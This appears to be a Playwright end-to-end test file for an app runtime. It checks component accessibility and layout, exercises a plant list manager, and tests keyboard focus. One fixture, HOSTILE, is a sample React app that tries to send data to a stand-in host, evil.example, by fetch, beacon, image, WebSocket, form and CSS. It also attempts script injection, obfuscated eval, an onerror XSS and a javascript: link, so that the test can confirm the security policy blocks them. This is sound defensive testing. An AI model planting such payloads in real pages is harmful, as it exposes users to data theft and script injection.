// Apps in a real Chromium, served with the headers of headers.conf: the look of every component at three widths and in
// both schemes, a list manager used from end to end, and what hostile code cannot do (claims V5 to V8).

import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildRuntime } from '../build.ts';
import { readCorpus } from '../builder/test/corpus.ts';
import { openPage, type ServedApp, serveApp, startBrowser } from './test/browser.ts';

const corpus = new Map((await readCorpus('good')).map((one) => [one.name, one.files]));
const axe = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

// Each of these passes the static checks; the page's policy is what stops it.
const HOSTILE = `// @ts-nocheck
import { useEffect } from 'react';
import { DataTable } from '@faibric/app';
const EVIL = 'https://evil.example/?d=1';
const items = [{ id: '1', name: '<img src=x onerror="window.pwned=1">', link: 'javascript:window.pwned=1' }];
export default function App() {
  useEffect(() => {
    window.seen = [];
    document.addEventListener('securitypolicyviolation', (e) => window.seen.push(e.effectiveDirective));
    fetch(EVIL).catch(() => {});
    navigator.sendBeacon?.(EVIL, 'x');
    new Image().src = EVIL;
    try { new WebSocket('wss://evil.example/'); } catch {}
    const form = document.createElement('form');
    form.action = EVIL;
    document.body.append(form);
    form.submit();
    const style = document.createElement('div');
    style.style.backgroundImage = 'url(' + EVIL + ')';
    style.textContent = '.';
    document.body.append(style);
    const script = document.createElement('script');
    script.textContent = 'window.pwned = 2';
    document.body.append(script);
    const name = ['Fun', 'ction'].join('');
    try { window[name]('window.pwned = 3')(); } catch (e) { window.refused = e.name; }
  }, []);
  return <DataTable label="Items" items={items} columns={[{ key: 'name', label: 'Name' }, { key: 'link', label: 'Link', type: 'url' }]} />;
}
`;

let browser: Browser;
let gallery: ServedApp;
let plants: ServedApp;
let hostile: ServedApp;

beforeAll(async () => {
  await buildRuntime(join(import.meta.dirname, '../dist'));
  browser = await startBrowser();
  gallery = await serveApp(corpus.get('gallery') ?? {});
  plants = await serveApp(corpus.get('reference') ?? {});
  hostile = await serveApp({ 'src/App.tsx': HOSTILE });
}, 300_000);
afterAll(async () => {
  await browser?.close();
  for (const one of [gallery, plants, hostile]) one?.server.close();
});

interface Violation {
  id: string;
  nodes: { html: string }[];
}

describe('every component', () => {
  const looks = [1440, 390, 320].flatMap((width) =>
    (['light', 'dark'] as const).map((scheme) => [width, scheme] as const),
  );
  test.each(looks)(
    'at %i px, %s: fits, complains of nothing, and axe finds nothing',
    async (width, scheme) => {
      const { page, complaints } = await openPage(browser, gallery.url, { width, scheme });
      await page.locator('.recharts-surface').first().waitFor();
      const overflow = await page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      );
      await page.evaluate(axe);
      const found = (await page.evaluate('axe.run({ resultTypes: ["violations"] })')) as {
        violations: Violation[];
      };
      await page.close();
      expect(overflow).toBe(0);
      expect(complaints).toEqual([]);
      expect(found.violations.map((one) => [one.id, one.nodes.map((node) => node.html).slice(0, 3)])).toEqual(
        [],
      );
    },
    120_000,
  );

  test.each(['#ffeb3b', '#e11d48', '#0ea5e9', '#111827'])(
    'with a primary colour of %s text stays readable',
    async (primary) => {
      for (const scheme of ['light', 'dark'] as const) {
        const url = `${gallery.url}/?primary=${encodeURIComponent(primary)}`;
        const { page } = await openPage(browser, url, { width: 1000, scheme });
        await page.evaluate(axe);
        const found = (await page.evaluate('axe.run({ runOnly: ["color-contrast"] })')) as {
          violations: Violation[];
        };
        await page.close();
        expect(found.violations.flatMap((one) => one.nodes.map((node) => node.html))).toEqual([]);
      }
    },
    120_000,
  );
});

test('a list manager adds, edits, sorts, searches and deletes, and keeps it over a reload', async () => {
  const { page, complaints } = await openPage(browser, plants.url, { width: 1000, scheme: 'light' });
  const names = () => page.locator('tbody td:first-child').allTextContents();
  await page.getByText('No plants yet').waitFor();
  for (const [name, days] of [
    ['Monstera', '7'],
    ['Basil', '2'],
    ['Aloe', '21'],
  ] as const) {
    await page.getByRole('button', { name: 'Add plant' }).click();
    await page.getByLabel('Name').fill(name);
    await page.getByLabel('Watering interval').fill(days);
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('cell', { name, exact: true }).waitFor();
  }
  await page.getByRole('button', { name: 'Watering interval' }).click();
  await expect.poll(names).toEqual(['Basil', 'Monstera', 'Aloe']);
  await page.getByRole('button', { name: 'Edit Basil' }).click();
  await page.getByLabel('Watering interval').fill('30');
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByRole('cell', { name: '30 days' }).waitFor();
  await expect.poll(names).toEqual(['Monstera', 'Aloe', 'Basil']);
  await page.getByRole('searchbox').fill('alo');
  await expect.poll(names).toEqual(['Aloe']);
  await page.getByRole('button', { name: 'Delete Aloe' }).click();
  // The row goes at once, the request takes a moment: a reload between the two would end it unsent.
  const deleted = page.waitForResponse((answer) => answer.request().method() === 'DELETE');
  await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
  await page.getByText('Nothing matches').waitFor({ state: 'visible' });
  await deleted;
  await page.reload({ waitUntil: 'networkidle' });
  await expect.poll(async () => (await names()).sort()).toEqual(['Basil', 'Monstera']);
  expect(complaints).toEqual([]);
  await page.close();
}, 120_000);

test('a deep link opens the app, the keyboard reaches the content first, Escape closes a dialog', async () => {
  const { page } = await openPage(browser, `${plants.url}/some/page`, { width: 1000, scheme: 'light' });
  await page.keyboard.press('Tab');
  expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to content');
  await page.getByRole('button', { name: 'Add plant' }).click();
  expect(await page.evaluate(() => document.activeElement?.getAttribute('name'))).toBe('name');
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  await page.close();
}, 120_000);

test('V5 to V8 hostile code sends nothing out, runs no text, and is reported', async () => {
  const page = await browser.newPage();
  // A request that the policy stops is announced and fails as "csp"; one that left would fail for want of a name.
  const out: string[] = [];
  page.on('requestfailed', (request) => {
    const reason = request.failure()?.errorText ?? '';
    if (request.url().includes('evil.example') && reason !== 'csp') out.push(`${request.url()} ${reason}`);
  });
  page.on('requestfinished', (request) => {
    if (request.url().includes('evil.example')) out.push(request.url());
  });
  await page.goto(hostile.url, { waitUntil: 'networkidle' });
  await page.waitForFunction('window.seen.length >= 5');
  const seen = (await page.evaluate('[...new Set(window.seen)].sort()')) as string[];
  expect(seen).toEqual(expect.arrayContaining(['connect-src', 'form-action', 'img-src', 'script-src-elem']));
  expect(await page.evaluate('window.pwned')).toBeUndefined();
  expect(await page.evaluate('window.refused')).toBe('EvalError');
  expect(new URL(page.url()).host).toBe(new URL(hostile.url).host);
  expect(await page.locator('a[href^="javascript"]').count()).toBe(0);
  expect(await page.locator('tbody img').count()).toBe(0);
  expect(out).toEqual([]);
  await page.close();
}, 120_000);
